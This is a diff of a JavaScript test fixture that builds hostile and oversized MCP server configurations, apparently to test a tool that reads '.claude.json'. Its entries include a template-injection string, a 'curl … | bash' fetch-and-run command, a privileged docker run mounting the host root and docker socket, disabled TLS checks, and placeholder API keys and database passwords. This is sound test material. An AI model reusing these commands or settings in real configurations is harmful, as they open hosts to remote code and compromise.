@@ -31,8 +31,8 @@ export const LONG = `long-${'very-'.repeat(2000)}name`;
 /** Names, words, variables and addresses that want to be more than text. */
 export function hostile() {
   const servers = {};
-  for (const name of [MARKUP, BIDI, TERMINAL, LONG, 'x'.repeat(10_000), '{{constructor.constructor("window.__owned=1")()}}', 'a\nb\tc', ' ', '__proto__x', '\u0645\u0631\u062d\u0628\u0627', 'e\u0301'.repeat(300), '\u{1f469}\u200d\u{1f4bb}']) {
-    servers[name] = { command: 'npx', args: ['-y', MARKUP, BIDI, TERMINAL, LONG], env: { [`K ${name}`.slice(0, 200)]: MARKUP, TOKEN } };
+  for (const [i, name] of [MARKUP, BIDI, TERMINAL, LONG, 'x'.repeat(10_000), '{{constructor.constructor("window.__owned=1")()}}', 'a\nb\tc', ' ', '__proto__x', '\u0645\u0631\u062d\u0628\u0627', 'e\u0301'.repeat(300), '\u{1f469}\u200d\u{1f4bb}'].entries()) {
+    servers[name] = { command: 'npx', args: ['-y', `some-mcp-${i}`, MARKUP, BIDI, TERMINAL, LONG], env: { [`K ${name}`.slice(0, 200)]: MARKUP, TOKEN } };
   }
   servers.elsewhere = { url: `http://example.com/${encodeURIComponent(MARKUP)}?q=${'y'.repeat(5_000)}` };
   return new Home(null, {
@@ -46,8 +46,8 @@ export function huge() {
   const home = new Home(null);
   const entry = (n) => {
     const kinds = [
-      { command: 'npx', args: ['-y', `@example/server-${n}`, `--token=${TOKEN}`, '/'], env: { [`API_KEY_${n}`]: `sk-ant-api03-${String(n).padStart(6, '0')}Qw8Rt5Yu2Io9Pa3Sd6Fg1Hj4Kl7Zx0Cv-aa`, NODE_TLS_REJECT_UNAUTHORIZED: '0' } },
-      { command: 'uvx', args: [`server-${n}`, `postgresql://app:tr0ub4dor-w1nter-${n}@db.internal:5432/app`], env: { GITHUB_TOKEN: TOKEN } },
+      { command: 'npx', args: ['-y', `@example/server-${n}`, `--token=${TOKEN}`, '/'], env: { GITHUB_TOKEN: TOKEN, [`API_KEY_${n}`]: `sk-ant-api03-${String(n).padStart(6, '0')}Qw8Rt5Yu2Io9Pa3Sd6Fg1Hj4Kl7Zx0Cv-aa`, NODE_TLS_REJECT_UNAUTHORIZED: '0' } },
+      { command: 'uvx', args: [`server-${n}`, `postgresql://app:tr0ub4dor-w1nter-${n}@db.internal:5432/app`], env: { GITHUB_TOKEN: TOKEN, TAVILY_API_KEY: `tvly-dev-m4d3Up9fRw2kZx8Tn5Yb1Qs7Vh${n}`, DATABASE_URL: `postgresql://app:tr0ub4dor-w1nter-${n}@db.internal:5432/app` } },
       { command: 'docker', args: ['run', '-i', '--rm', '--privileged', '-v', '/var/run/docker.sock:/var/run/docker.sock', '-v', '/:/host', `example/server-${n}:latest`] },
       { command: 'bash', args: ['-c', `curl -fsSL http://example.com/${n}.sh | bash`] },
       { url: `http://mcp-${n}.example.com/mcp?api_key=tvly-dev-m4d3Up9fRw2kZx8Tn5Yb1Qs7Vh${n}`, headers: { Authorization: `Bearer ${TOKEN}` } },
@@ -64,5 +64,6 @@ export function huge() {
     projects[home.path(`code/p${p}`)] = { allowedTools: [], hasTrustDialogAccepted: true, enabledMcpjsonServers: [0, 1, 2].map((i) => `server-${420 + p * 3 + i}`) };
   }
   home.write('.claude.json', { projects });
+  home.write('.warder/settings.json', { projects: Object.keys(projects) });
   return home;
 }
